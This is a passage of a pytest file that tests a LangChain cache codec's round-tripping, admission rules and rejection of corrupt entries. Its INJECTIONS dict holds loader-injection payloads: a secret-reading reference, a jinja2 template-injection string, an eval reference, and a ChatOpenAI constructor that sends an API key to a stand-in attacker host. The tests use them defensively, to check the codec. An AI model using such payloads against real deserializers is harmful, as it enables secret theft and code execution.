"""Generations as bytes and back, with answers from real ChatOpenAI over HTTP, on either line of LangChain."""

from __future__ import annotations

import copy
import datetime
import json
import math
import re
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.caches import BaseCache
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import (
    AIMessage,
    AIMessageChunk,
    ChatMessage,
    HumanMessage,
    message_chunk_to_message,
)
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, Generation, GenerationChunk
from langchain_openai import ChatOpenAI
from pydantic import BaseModel, ConfigDict, Field, RootModel, field_validator

from llmcache_plugins.adapters.langchain import stored
from llmcache_plugins.adapters.langchain.values import GenerationsCodec, mark_hit
from llmcache_plugins.answers import AnswerCodec
from llmcache_plugins.errors import CorruptEntry, UnstorableAnswer
from llmcache_plugins.models import EncodedAnswer, Outcome, Resolution, Usage
from llmcache_plugins.policy import Refusal, admit
from llmcache_plugins.testing.provider_server import Behaviour, ProviderServer, clean_eof, truncated

pytestmark = [
    # langchain-openai 0.3 dumps the SDK's answer with the parsed object still in it.
    pytest.mark.filterwarnings("ignore:Pydantic serializer warnings:UserWarning:pydantic"),
]

CODEC = GenerationsCodec()
NO_TOKENS = {"input_tokens": 0, "output_tokens": 0, "total_tokens": 0}
FRESH_ID = re.compile(r"lc_run--[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}")
IS_V1 = "content_blocks" in vars(AIMessage)


class Recorder(BaseCache):
    """Keeps what LangChain would store; every call is a miss."""

    def __init__(self) -> None:
        self.updates: list[list[Generation]] = []

    def lookup(self, prompt: str, llm_string: str) -> None:
        return None

    def update(self, prompt: str, llm_string: str, return_val: Any) -> None:
        self.updates.append(return_val)

    def clear(self, **_kwargs: Any) -> None:
        self.updates.clear()


class Hits(BaseCache):
    """Answers every call with what is stored."""

    def __init__(self, stored: EncodedAnswer) -> None:
        self._stored = stored

    def lookup(self, prompt: str, llm_string: str) -> list[Generation]:
        return CODEC.decode(self._stored)

    def update(self, prompt: str, llm_string: str, return_val: Any) -> None:
        raise AssertionError

    def clear(self, **_kwargs: Any) -> None:
        raise AssertionError


def model(stand_in: ProviderServer, cache: BaseCache, **settings: Any) -> ChatOpenAI:
    return ChatOpenAI(
        model="stand-in", base_url=stand_in.base_url, api_key="test", max_retries=0, cache=cache, **settings
    )


async def recorded(stand_in: ProviderServer, *, tools: bool = False, **settings: Any) -> list[Generation]:
    recorder = Recorder()
    asked = model(stand_in, recorder, **settings)
    await (asked.bind_tools([look_up]) if tools else asked).ainvoke("Hi")
    return recorder.updates[0]


def look_up(topic: str) -> str:
    """Look something up."""
    return topic


def chat(content: Any = "Hi", *, info: dict[str, Any] | None = None, **fields: Any) -> ChatGeneration:
    return ChatGeneration(message=AIMessage(content=content, **fields), generation_info=info)


def again(*generations: Generation) -> list[Generation]:
    return CODEC.decode(CODEC.encode(list(generations)))


def message_again(message: AIMessage) -> Any:
    (returned,) = again(ChatGeneration(message=message))
    return returned.message


def same(returned: list[Generation], given: list[Generation]) -> bool:
    """Whether generations are equal in class, value and type, but for ids and usages that are missing."""
    return typed([as_promised(g) for g in returned]) == typed([as_promised(g) for g in given])


def as_promised(generation: Generation) -> Generation:
    if not isinstance(generation, ChatGeneration):
        return generation
    message = copy.deepcopy(generation.message)
    if not str(message.id).startswith("msg_") or "resp_" not in str(message.response_metadata.get("id")):
        message.id = None
    message.usage_metadata = message.usage_metadata or NO_TOKENS
    return ChatGeneration(message=message, generation_info=generation.generation_info)


def typed(value: Any) -> Any:
    """A value with the types of all its parts: 1, 1.0 and True differ, and so do NaN and another number."""
    if isinstance(value, dict):
        return {(type(name), name): typed(inner) for name, inner in value.items()}
    if isinstance(value, list):
        return [typed(inner) for inner in value]
    if isinstance(value, BaseModel):
        return type(value), typed(dict(value)), typed(value.model_extra)
    return type(value), repr(value)


# --- Real answers ----------------------------------------------------------------------------------------

REAL = {
    "chat": {},
    "chat, streamed": {"streaming": True},
    "chat, streamed with usage": {"streaming": True, "stream_usage": True},
    "chat, tools": {"tools": True},
    "chat, tools, streamed": {"tools": True, "streaming": True},
    "chat, three choices": {"n": 3},
    "chat, logprobs": {"logprobs": True, "top_logprobs": 2},
    "responses": {"use_responses_api": True},
    "responses, streamed": {"use_responses_api": True, "streaming": True},
    "responses, tools": {"use_responses_api": True, "tools": True},
    "responses, tools, streamed": {"use_responses_api": True, "tools": True, "streaming": True},
    "responses, blocks": {"use_responses_api": True, "output_version": "responses/v1"},
    "v1 blocks": {"use_responses_api": True, "tools": True, "output_version": "v1"},
    "v1 blocks, streamed": {
        "use_responses_api": True,
        "tools": True,
        "output_version": "v1",
        "streaming": True,
    },
}
SPOKEN = [name for name in REAL if IS_V1 or "v1 blocks" not in name]


@pytest.mark.parametrize("name", SPOKEN)
async def test_what_a_model_answered_comes_back_equal_and_complete(stand_in, name):
    generations = await recorded(stand_in, **REAL[name])
    encoded = CODEC.encode(generations)
    returned = CODEC.decode(encoded)
    assert same(returned, generations)
    assert len(returned) == REAL[name].get("n", 1)
    assert admit(encoded.facts) is None


@pytest.mark.parametrize("name", SPOKEN)
async def test_a_hit_shows_the_application_what_the_first_call_did(stand_in, name):
    generations = await recorded(stand_in, **REAL[name])
    if REAL[name].get("tools"):
        assert generations[0].message.tool_calls
    hit = await model(stand_in, Hits(CODEC.encode(generations))).ainvoke("Hi")
    first = generations[0].message
    assert (hit.content, hit.tool_calls) == (first.content, first.tool_calls)
    # LangChain adds the cost to what is there: readers of a usage find its counts.
    assert hit.usage_metadata == {**(first.usage_metadata or NO_TOKENS), "total_cost": 0}
    assert stand_in.calls == 1


@pytest.mark.parametrize("settings", [{}, {"streaming": True}, {"use_responses_api": True}])
@pytest.mark.parametrize("streamed_usage", [True, False])
async def test_facts_say_what_was_asked_for_and_spent(stand_in, settings, streamed_usage):
    facts = CODEC.encode(await recorded(stand_in, **settings, stream_usage=streamed_usage)).facts
    spent = Usage(input_tokens=stand_in.input_tokens, output_tokens=stand_in.output_tokens)
    is_told = streamed_usage or "streaming" not in settings
    assert facts.usage == (spent if is_told else None)
    assert facts.model == "stand-in"
    assert not facts.unfinished


async def test_the_tokens_of_three_choices_are_counted_once(stand_in):
    facts = CODEC.encode(await recorded(stand_in, n=3)).facts
    assert facts.usage == Usage(input_tokens=stand_in.input_tokens, output_tokens=stand_in.output_tokens)
    assert facts.finish_reasons == ("stop", "stop", "stop")


@pytest.mark.parametrize("api", ["chat", "responses"])
async def test_a_truncated_answer_is_not_admitted(stand_in, api):
    stand_in.script(truncated())
    encoded = CODEC.encode(await recorded(stand_in, use_responses_api=api == "responses"))
    assert admit(encoded.facts) is Refusal.TRUNCATED


@pytest.mark.parametrize("api", ["chat", "responses"])
async def test_a_stream_that_ended_without_its_end_is_not_admitted(stand_in, api):
    if api == "chat" and not IS_V1:
        pytest.skip("langchain-openai 0.3 leaves nothing to tell it by")
    stand_in.script(clean_eof())
    encoded = CODEC.encode(await recorded(stand_in, streaming=True, use_responses_api=api == "responses"))
    assert admit(encoded.facts) is Refusal.UNFINISHED


async def test_a_truncated_response_that_was_streamed_is_not_admitted(stand_in):
    stand_in.script(truncated())
    encoded = CODEC.encode(await recorded(stand_in, streaming=True, use_responses_api=True))
    assert admit(encoded.facts) is (Refusal.TRUNCATED if IS_V1 else Refusal.UNFINISHED)


# --- Structured output -----------------------------------------------------------------------------------


class Person(BaseModel):
    """Reads another name than its own."""

    model_config = ConfigDict(populate_by_name=False)
    full_name: str = Field(alias="fullName")
    age: int = 0


class Reversed(BaseModel):
    """A dump of it read again is another one."""

    word: str

    @field_validator("word")
    @classmethod
    def _reverse(cls, value: str) -> str:
        return value[::-1]


class Serial(BaseModel):
    """Each one is new."""

    number: int = Field(default_factory=iter(range(1000)).__next__)


class Names(RootModel[list[str]]):
    """No object at its root."""


@pytest.mark.parametrize("api", ["chat", "responses"])
async def test_structured_output_survives_a_hit_by_its_aliases(stand_in, api):
    recorder = Recorder()
    asked = model(stand_in, recorder, use_responses_api=api == "responses")
    stand_in.script(Behaviour(text='{"fullName": "Ada"}'))
    first = await asked.with_structured_output(Person).ainvoke("Who?")
    assert recorder.updates[0][0].message.additional_kwargs["parsed"] == first
    asked.cache = Hits(CODEC.encode(recorder.updates[0]))
    assert await asked.with_structured_output(Person).ainvoke("Who?") == first == Person(fullName="Ada")
    assert stand_in.calls == 1


def parsed_again(parsed: Any, *, content: Any) -> Any:
    return message_again(AIMessage(content=content, additional_kwargs={"parsed": parsed})).additional_kwargs[
        "parsed"
    ]


def test_what_was_parsed_comes_back_as_what_the_model_said():
    assert parsed_again(Person(fullName="Ada"), content='{"fullName": "Ada"}') == {"fullName": "Ada"}
    assert parsed_again(Reversed(word="ab"), content='{"word": "ab"}') == {"word": "ab"}
    blocks = [{"type": "text", "text": '{"fullName": '}, {"type": "text", "text": '"Ada"}'}]
    assert parsed_again(Person(fullName="Ada"), content=blocks) == {"fullName": "Ada"}


@pytest.mark.parametrize("content", ["", "Here: {", '{"fullName": "Bob"}', "[]", "1", "[" * 100_000])
def test_what_was_parsed_comes_back_as_a_dump_if_the_text_is_something_else(content):
    assert parsed_again(Person(fullName="Ada"), content=content) == {"fullName": "Ada", "age": 0}


def test_what_a_default_made_comes_back_and_not_another():
    serial = Serial()
    assert parsed_again(serial, content="{}") == {"number": serial.number}


@pytest.mark.parametrize(("parsed", "content"), [(Reversed(word="ab"), ""), (Names(["Ada"]), '["Ada"]')])
def test_what_no_stored_form_would_make_again_is_not_stored(parsed, content):
    with pytest.raises(UnstorableAnswer):
        parsed_again(parsed, content=content)


@pytest.mark.parametrize("parsed", [None, {"a": [1, None]}, [1], "text"])
def test_what_was_parsed_to_plain_data_stays_as_it_is(parsed):
    assert parsed_again(parsed, content="Hi") == parsed


def test_the_applications_message_keeps_its_parsed_object():
    message = AIMessage("Hi", additional_kwargs={"parsed": Person(fullName="Ada")}, id="run-1")
    before = message.model_copy(deep=True)
    CODEC.encode([ChatGeneration(message=message)])
    assert message == before


def test_an_object_elsewhere_is_not_stored():
    with pytest.raises(UnstorableAnswer):
        CODEC.encode([chat(additional_kwargs={"other": Person(fullName="Ada")})])


# --- What comes back -------------------------------------------------------------------------------------

EVERYTHING = {
    "additional_kwargs": {"reasoning_content": "Well", "refusal": None, "audio": {"data": b"\x00\xff"}},
    "response_metadata": {"logprobs": {"content": [{"logprob": -0.25, "bytes": [72]}]}, 3: True},
    "name": "ada",
    "id": "msg_1",
    "tool_calls": [{"name": "look_up", "args": {"topic": ["a", {"b": 1.0}]}, "id": None}],
    "invalid_tool_calls": [{"name": "look_up", "args": '{"topic": ', "id": "2", "error": "not JSON"}],
    "usage_metadata": {
        "input_tokens": 1,
        "output_tokens": 2,
        "total_tokens": 3,
        "output_token_details": {"reasoning": 1},
    },
}
CONTENTS = {
    "nothing": "",
    "text": "H\u00e9llo \U0001f600\x00",
    "no blocks": [],
    "texts": ["Hello", {"type": "text", "text": "there"}],
    "reasoning": [
        {"type": "reasoning", "reasoning": "Well", "extras": {"signature": "x"}},
        {"type": "text", "text": "Hi"},
    ],
    "thinking": [{"type": "thinking", "thinking": "Well", "signature": "x", "index": 0}],
    "legacy": [{"text": "Hi"}, {"reasoning_content": {"text": "Well"}}],
    "image": [{"type": "image", "base64": "AAAA", "mime_type": "image/png"}],
    "server tool": [{"type": "server_tool_call", "id": "1", "name": "search", "args": {"q": "x"}}],
    "citation": [
        {"type": "text", "text": "Hi", "annotations": [{"type": "citation", "start_index": 0, "url": "u"}]}
    ],
}


@pytest.mark.parametrize("fields", [{}, EVERYTHING], ids=["bare", "everything"])
@pytest.mark.parametrize("info", [None, {}, {"finish_reason": "stop", "logprobs": None}])
@pytest.mark.parametrize("content", CONTENTS.values(), ids=CONTENTS)
def test_a_message_comes_back_with_every_field(content, info, fields):
    given = [chat(content, info=info, **fields)]
    assert same(again(*given), given)


def test_texts_of_completion_models_come_back_in_their_order():
    given = [Generation(text="one", generation_info={"finish_reason": "stop"}), Generation(text="")]
    assert again(*given) == given
    assert [type(generation) for generation in again(*given)] == [Generation, Generation]


def test_both_kinds_of_generation_in_one_list_come_back():
    given = [Generation(text="one"), chat("two")]
    assert same(again(*given), given)


def test_chunks_come_back_as_the_whole_messages_they_are():
    parts = [
        AIMessageChunk(
            content="", id="run-1", tool_call_chunks=[{"name": "f", "args": '{"a"', "id": "1", "index": 0}]
        ),
        AIMessageChunk(
            content="", id="run-1", tool_call_chunks=[{"name": None, "args": ": 1}", "id": None, "index": 0}]
        ),
        AIMessageChunk(content="Hi", tool_call_chunks=[{"name": "g", "args": "[", "id": "2", "index": 1}]),
    ]
    chunk = ChatGenerationChunk(
        message=parts[0] + parts[1] + parts[2], generation_info={"finish_reason": "stop"}
    )
    (returned,) = again(chunk)
    assert type(returned) is ChatGeneration
    assert type(returned.message) is AIMessage
    whole = ChatGeneration(
        message=message_chunk_to_message(chunk.message), generation_info=chunk.generation_info
    )
    assert same([returned], [whole])
    assert returned.message.tool_calls[0]["args"] == {"a": 1}
    assert again(GenerationChunk(text="Hi")) == [Generation(text="Hi")]


def test_what_integrations_add_to_usages_and_tool_calls_is_kept():
    message = AIMessage("Hi")
    message.usage_metadata = {**NO_TOKENS, "input_token_details": {"flex_cache_read": 3}, "total_cost": 0.5}
    message.tool_calls = [
        {"name": "f", "args": {}, "id": "1", "type": "tool_call", "extras": {"item_id": "x"}}
    ]
    returned = message_again(message)
    assert returned.usage_metadata == message.usage_metadata
    assert returned.tool_calls == message.tool_calls


def test_raw_tool_calls_that_langchain_would_refuse_are_kept_beside_the_read_ones():
    raw = {"id": "1", "type": "function", "function": {"name": "f", "arguments": "[1]"}}
    invalid = {"name": "f", "args": "[1]", "id": "1", "error": None}
    message = AIMessage("", additional_kwargs={"tool_calls": [raw]}, invalid_tool_calls=[invalid])
    given = [ChatGeneration(message=message)]
    assert same(again(*given), given)
    message.invalid_tool_calls = []
    assert same(again(*given), given)


def test_a_usage_without_its_counts_gets_zeros_that_are_not_counted():
    assert message_again(AIMessage("Hi")).usage_metadata == NO_TOKENS
    message = AIMessage("Hi")
    message.usage_metadata = {"total_cost": 0}
    assert message_again(message).usage_metadata == {**NO_TOKENS, "total_cost": 0}
    assert CODEC.encode([chat()]).facts.usage is None


plain = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**64 - 1)
    | st.floats()
    | st.text()
    | st.binary(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.text() | st.integers(-(2**63), 2**63), inner, max_size=4)
    ),
    max_leaves=12,
)
named = st.dictionaries(st.text(), plain, max_size=4)


@given(
    metadata=st.dictionaries(st.text() | st.integers(0, 9), plain, max_size=4),
    kwargs=named,
    args=named,
    info=st.none() | named,
    blocks=st.text() | st.lists(st.text() | named.filter(lambda block: "text" not in block), max_size=3),
    id_=st.none() | st.text(),
)
def test_any_json_like_answer_comes_back_equal(metadata, kwargs, args, info, blocks, id_):
    # Assigned: the constructor reads tool calls out of some of these.
    message = AIMessage(content=blocks, response_metadata=metadata, name=id_, id=id_)
    message.additional_kwargs = kwargs
    message.tool_calls = [{"name": "f", "args": args, "id": id_, "type": "tool_call"}]
    given = [
        ChatGeneration(message=message, generation_info=info),
        Generation(text="x", generation_info=info),
    ]
    encoded = CODEC.encode(given)
    assert same(CODEC.decode(encoded), given)
    assert CODEC.encode(CODEC.decode(encoded)) == encoded


# --- What is not stored ----------------------------------------------------------------------------------


class Shout(str):
    __slots__ = ()


class OwnMessage(AIMessage):
    mood: str = "fine"


class OwnGeneration(ChatGeneration):
    mood: str = "fine"


LOOP: list[Any] = []
LOOP.append(LOOP)
UNSTORABLE = {
    "object": object(),
    "class": dict,
    "function": len,
    "tuple": (1, 2),
    "set": {1},
    "datetime": datetime.datetime.now(datetime.UTC),
    "date": datetime.date(2025, 1, 1),
    "big integer": 2**64,
    "small integer": -(2**63) - 1,
    "lone surrogate": "\ud800",
    "subclass of str": Shout("x"),
    "enum": Outcome.HIT,
    "bytearray": bytearray(b"x"),
    "complex": 1j,
    "message": AIMessage("Hi"),
    "key": {1.5: 1},
    "key that is a tuple": {(1, 2): 1},
    "contains itself": LOOP,
}


@pytest.mark.parametrize("value", UNSTORABLE.values(), ids=UNSTORABLE)
@pytest.mark.parametrize("place", ["additional_kwargs", "response_metadata", "tool args", "block", "info"])
def test_what_would_come_back_different_is_not_stored(place, value):
    holder = {"x": [value]}
    message = AIMessage("Hi")
    if place == "tool args":
        message.tool_calls = [{"name": "f", "args": holder, "id": "1", "type": "tool_call"}]
    elif place == "block":
        message.content = [holder]
    elif place != "info":
        setattr(message, place, holder)
    generation = ChatGeneration(message=message)
    generation.generation_info = holder if place == "info" else None
    with pytest.raises(UnstorableAnswer):
        CODEC.encode([generation])


@pytest.mark.parametrize(
    "generation",
    [
        ChatGeneration(message=HumanMessage("Hi")),
        ChatGeneration(message=ChatMessage(content="Hi", role="ai")),
        ChatGeneration(message=OwnMessage("Hi")),
        OwnGeneration(message=AIMessage("Hi")),
        chat(unknown_field=1),
        "Hi",
        {"text": "Hi"},
        None,
    ],
    ids=repr,
)
def test_other_classes_and_unknown_fields_are_not_stored(generation):
    with pytest.raises(UnstorableAnswer):
        CODEC.encode([generation])


@pytest.mark.parametrize(
    "generations", [None, "Hi", {}, iter([]), chat()], ids=lambda one: type(one).__name__
)
def test_what_is_no_list_of_generations_is_not_stored(generations):
    with pytest.raises(UnstorableAnswer):
        CODEC.encode(generations)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("content", None),
        ("content", [1]),
        ("content", b"Hi"),
        ("additional_kwargs", None),
        ("additional_kwargs", []),
        ("response_metadata", "Hi"),
        ("name", 1),
        ("id", 1),
        ("tool_calls", None),
        ("tool_calls", [{}]),
        ("tool_calls", [{"name": "f", "args": "{}", "id": "1"}]),
        ("invalid_tool_calls", [{"name": "f"}]),
        ("usage_metadata", "Hi"),
        ("usage_metadata", {**NO_TOKENS, "input_tokens": "3"}),
        ("usage_metadata", {**NO_TOKENS, "input_tokens": None}),
    ],
)
def test_a_message_whose_fields_are_not_what_langchain_declares_is_not_stored(field, value):
    generation = chat()
    setattr(generation.message, field, value)
    with pytest.raises(UnstorableAnswer):
        CODEC.encode([generation])


def test_a_generation_whose_text_is_not_its_messages_is_not_stored():
    generation = chat("Hi")
    generation.message.content = "Ho"
    with pytest.raises(UnstorableAnswer):
        CODEC.encode([generation])


def test_what_another_version_of_langchain_changes_is_not_stored(monkeypatch):
    like = stored._like

    def forgetful(blank, fields):
        return like(blank, {**fields, **dict.fromkeys(fields.keys() & {"name"})})

    monkeypatch.setattr(stored, "_like", forgetful)
    assert CODEC.encode([chat()])
    with pytest.raises(UnstorableAnswer):
        CODEC.encode([chat(name="ada")])


# --- Ids and isolation -----------------------------------------------------------------------------------


@pytest.mark.parametrize("id_", ["run-1", "lc_run--1-0", "", "msg_1", "resp_1", "chatcmpl-1", "my-run-1"])
def test_each_message_has_an_id_of_its_own_each_time(id_):
    encoded = CODEC.encode([chat(id=id_), chat(id=id_)])
    ids = [generation.message.id for _ in range(3) for generation in CODEC.decode(encoded)]
    assert len({*ids, id_}) == 7
    assert all(FRESH_ID.fullmatch(id_) for id_ in ids)


def test_an_id_that_the_provider_is_told_again_is_kept():
    metadata = {"id": "resp_1"}
    assert message_again(AIMessage("Hi", id="msg_1", response_metadata=metadata)).id == "msg_1"
    assert message_again(AIMessage("Hi", id="resp_1", response_metadata=metadata)).id != "resp_1"
    assert message_again(AIMessage("Hi")).id is None


def test_answers_that_differ_in_langchains_ids_have_the_same_bytes():
    assert CODEC.encode([chat(id="run--1")]) == CODEC.encode([chat(id="lc_run--2-0")])


def spoil(generations: list[Generation]) -> None:
    for generation in generations:
        generation.generation_info["logprobs"].append("spoilt")
        message = generation.message
        message.content[0]["text"] = "spoilt"
        message.content.append("spoilt")
        message.additional_kwargs["reasoning"]["text"] = "spoilt"
        message.response_metadata["list"].clear()
        message.tool_calls[0]["args"]["topics"].append("spoilt")
        message.tool_calls.clear()
        message.usage_metadata["input_tokens"] = 99
        message.id = message.name = "spoilt"
        generation.text = "spoilt"


def spoilable() -> list[Generation]:
    return [
        chat(
            [{"type": "text", "text": "Hi"}],
            info={"logprobs": [1]},
            additional_kwargs={"reasoning": {"text": "Well"}},
            response_metadata={"list": [1]},
            tool_calls=[{"name": "f", "args": {"topics": []}, "id": "1"}],
            id="msg_1",
        )
    ]


def test_no_caller_sees_what_another_does_to_its_answer():
    generations = spoilable()
    generations[0].message.usage_metadata = dict(NO_TOKENS)
    encoded = CODEC.encode(generations)
    # The application changes the message it got from the provider, and each that comes from the cache.
    spoil(generations)
    for _ in range(2):
        returned = CODEC.decode(encoded)
        assert same(returned, spoilable())
        spoil(returned)


# --- Hits ------------------------------------------------------------------------------------------------


def hit(*, age: float = 0.0, cache_status: str = "") -> Resolution:
    return Resolution(answer=None, outcome=Outcome.HIT, key=None, age=age, cache_status=cache_status)


def test_a_hit_says_so_in_its_message():
    returned = again(chat(response_metadata={"model_name": "m"}), chat(), Generation(text="Hi"))
    mark_hit(returned, hit(age=2.5, cache_status="llmcache; hit"), zero_usage=False)
    mark = {"outcome": "hit", "age": 2.5, "cache_status": "llmcache; hit"}
    assert returned[0].message.response_metadata == {"model_name": "m", "llmcache": mark}
    assert returned[1].message.response_metadata["llmcache"] == mark
    assert (
        returned[0].message.response_metadata["llmcache"]
        is not returned[1].message.response_metadata["llmcache"]
    )
    assert returned[2] == Generation(text="Hi")


def test_a_hit_can_be_stored_again():
    returned = again(chat())
    mark_hit(returned, hit(age=2.5), zero_usage=True)
    assert same(again(*returned), returned)


def test_usage_is_zeroed_only_on_request():
    usage = {
        "input_tokens": 3,
        "output_tokens": 4,
        "total_tokens": 7,
        "input_token_details": {"cache_read": 2},
    }
    encoded = CODEC.encode(
        [chat(usage_metadata=usage, response_metadata={"token_usage": {"total_tokens": 7}})]
    )
    kept, zeroed = CODEC.decode(encoded), CODEC.decode(encoded)
    mark_hit(kept, hit(), zero_usage=False)
    mark_hit(zeroed, hit(), zero_usage=True)
    assert kept[0].message.usage_metadata == usage
    assert zeroed[0].message.usage_metadata == {**NO_TOKENS, "input_token_details": {"cache_read": 0}}
    assert zeroed[0].message.response_metadata["token_usage"] == {"total_tokens": 7}


# --- Facts -----------------------------------------------------------------------------------------------


def test_no_generations_are_no_choices():
    encoded = CODEC.encode([])
    assert admit(encoded.facts) is Refusal.NO_CHOICES
    assert CODEC.decode(encoded) == []


@pytest.mark.parametrize("name", ["finish_reason", "stop_reason", "done_reason", "stopReason"])
@pytest.mark.parametrize(("reason", "refusal"), [("stop", None), ("max_tokens", Refusal.TRUNCATED)])
def test_the_finish_reason_is_found_where_integrations_put_it(name, reason, refusal):
    places = [
        chat(response_metadata={name: reason}),
        chat(info={name: reason}),
        Generation(text="Hi", generation_info={name: reason}),
    ]
    for generation in places:
        facts = CODEC.encode([chat(), generation]).facts
        assert facts.finish_reasons == (reason,)
        assert admit(facts) is refusal


def test_a_finish_reason_of_none_does_not_hide_another():
    generation = chat(info={"finish_reason": None}, response_metadata={"finish_reason": "length"})
    assert admit(CODEC.encode([generation]).facts) is Refusal.TRUNCATED


@pytest.mark.parametrize("metadata", [{"model_provider": "openai"}, {"id": "resp_1"}])
def test_an_answer_of_openai_that_does_not_say_how_it_ended_is_not_admitted(metadata):
    generation = chat(response_metadata=metadata)
    assert admit(CODEC.encode([generation]).facts) is Refusal.UNFINISHED


def test_a_compatible_server_without_finish_reasons_is_admitted():
    generation = chat(response_metadata={"model_provider": "openai", "finish_reason": None})
    assert admit(CODEC.encode([generation]).facts) is None


@pytest.mark.parametrize("odd", [None, 1, "", [], {"a": 1}])
def test_metadata_of_an_odd_shape_is_no_fact(odd):
    names = "finish_reason stop_reason model_name id status incomplete_details object model_provider"
    metadata = dict.fromkeys(names.split(), odd)
    facts = CODEC.encode([chat(info=metadata, response_metadata=metadata)]).facts
    assert (facts.model, facts.usage, facts.finish_reasons, admit(facts)) == (None, None, (), None)


def test_tokens_of_generations_with_their_own_usage_are_summed():
    usages = [{"input_tokens": n, "output_tokens": 10 * n, "total_tokens": 11 * n} for n in (1, 2)]
    facts = CODEC.encode([chat(usage_metadata=usage) for usage in usages]).facts
    assert facts.usage == Usage(input_tokens=3, output_tokens=30)


def test_tokens_beyond_all_bounds_are_still_a_fact_that_can_be_stored():
    usages = [{**NO_TOKENS, "input_tokens": 2**64 - n, "output_tokens": -n} for n in (1, 2)]
    facts = CODEC.encode([chat(usage_metadata=usage) for usage in usages]).facts
    assert facts.usage == Usage(input_tokens=2**63 - 1)
    assert msgspec.msgpack.decode(msgspec.msgpack.encode(facts), type=type(facts)) == facts


async def test_a_model_that_says_nothing_of_its_answer_is_admitted():
    recorder = Recorder()
    await GenericFakeChatModel(messages=iter(["Hi"]), cache=recorder).ainvoke("Hi")
    assert admit(CODEC.encode(recorder.updates[0]).facts) is None


# --- Forged and broken -----------------------------------------------------------------------------------

SECRET = "LLMCACHE_TEST_SECRET"
_LEAKED = "must-not-leak-8d1f"
INJECTIONS = {
    "secret": {"lc": 1, "type": "secret", "id": [SECRET]},
    "template": {
        "lc": 1,
        "type": "constructor",
        "id": ["langchain", "prompts", "prompt", "PromptTemplate"],
        "kwargs": {
            "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "template_format": "jinja2",
            "input_variables": [],
        },
    },
    "model": {
        "lc": 1,
        "type": "constructor",
        "id": ["langchain", "chat_models", "openai", "ChatOpenAI"],
        "kwargs": {
            "base_url": "http://attacker.invalid",
            "api_key": {"lc": 1, "type": "secret", "id": [SECRET]},
        },
    },
    "escaped": {"__lc_escaped__": {"lc": 1, "type": "secret", "id": [SECRET]}},
    "not implemented": {"lc": 1, "type": "not_implemented", "id": ["builtins", "eval"], "repr": "eval"},
    "message": {
        "lc": 1,
        "type": "constructor",
        "id": ["langchain", "schema", "messages", "HumanMessage"],
        "kwargs": {"content": "Hi"},
    },
}


@pytest.mark.parametrize("payload", INJECTIONS.values(), ids=INJECTIONS)
def test_instructions_to_langchains_loader_come_back_as_the_data_they_are(payload, monkeypatch):
    monkeypatch.setenv(SECRET, _LEAKED)
    text = json.dumps(payload)
    given = [
        chat([payload, text], info=copy.deepcopy(payload)),
        chat(text, additional_kwargs={"x": payload, "parsed": payload}, response_metadata={"x": [payload]}),
        chat("", additional_kwargs=copy.deepcopy(payload), response_metadata=copy.deepcopy(payload)),
        chat("", tool_calls=[{"name": "f", "args": copy.deepcopy(payload), "id": "1"}]),
        chat("", invalid_tool_calls=[{"name": "f", "args": text, "id": "1", "error": text}]),
        Generation(text=text, generation_info={"x": payload}),
    ]
    returned = again(*given)
    assert same(returned, given)
    assert returned[1].message.additional_kwargs["x"] == payload
    assert _LEAKED not in repr(returned)


@pytest.mark.parametrize("payload", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize("place", ["entry", "generation", "message", "content"])
def test_an_entry_forged_for_langchains_loader_is_corrupt(place, payload, monkeypatch):
    monkeypatch.setenv(SECRET, _LEAKED)
    wire = stored_chat()
    forged = {
        "entry": payload,
        "generation": [payload],
        "message": [{**wire, "message": payload}],
        "content": [{**wire, "message": {**wire["message"], "content": payload}}],
    }
    with pytest.raises(CorruptEntry):
        CODEC.decode(entry_of(forged[place]))


def entry_of(wire: Any, *, kind: str = "langchain") -> EncodedAnswer:
    return EncodedAnswer(kind=kind, payload=msgspec.msgpack.encode(wire))


def stored_chat() -> dict[str, Any]:
    wire: dict[str, Any] = msgspec.msgpack.decode(CODEC.encode([chat()]).payload)[0]
    return wire


def test_the_stored_form_is_this_one():
    assert msgspec.msgpack.decode(CODEC.encode([chat("Hi", id="run--1"), Generation(text="x")]).payload) == [
        {
            "type": "chat",
            "message": {
                "content": "Hi",
                "additional_kwargs": {},
                "response_metadata": {},
                "name": None,
                "id": "lc_run--",
                "tool_calls": [],
                "invalid_tool_calls": [],
                "usage_metadata": NO_TOKENS,
            },
            "generation_info": None,
        },
        {"type": "text", "text": "x", "generation_info": None},
    ]


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"\xc1",
        b"\x91" * 100_000,
        b"\xdd\xff\xff\xff\xff",
        b"\xdf\xff\xff\xff\xff",
        b"\xdb\xff\xff\xff\xff",
        b"\x91\xd4\x05\x00",
        b"\x91\xa3\xed\xa0\x80",
        b"\x81\x80\x01",
        b"\x80\x04\x95\x0b\x00\x00\x00",
    ],
)
def test_bytes_that_are_nothing_are_corrupt_and_cost_nothing(payload):
    with pytest.raises(CorruptEntry):
        CODEC.decode(EncodedAnswer(kind="langchain", payload=payload))


@pytest.mark.parametrize("kind", ["plain", "openai.chat", ""])
def test_an_entry_of_another_kind_is_corrupt(kind):
    with pytest.raises(CorruptEntry):
        CODEC.decode(entry_of([stored_chat()], kind=kind))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("content", None),
        ("content", [1]),
        ("additional_kwargs", []),
        ("tool_calls", [{}]),
        ("tool_calls", [{"name": "f", "args": {1: 2}, "id": "1"}]),
        ("invalid_tool_calls", [{}]),
        ("usage_metadata", {}),
        ("id", 1),
        ("unknown", 1),
    ],
)
def test_an_entry_with_a_field_that_is_not_ours_is_corrupt(field, value):
    wire = stored_chat()
    wire["message"][field] = value
    with pytest.raises(CorruptEntry):
        CODEC.decode(entry_of([wire]))


@pytest.mark.parametrize("content", [[{"text": 5}], [{"text": None}], [{"type": [], "text": {}}]])
def test_blocks_that_langchain_stumbles_over_raise_nothing_but_corrupt_entry(content):
    wire = stored_chat()
    wire["message"]["content"] = content
    decode_or_corrupt(entry_of([wire]))


def test_an_extension_type_deep_inside_is_corrupt():
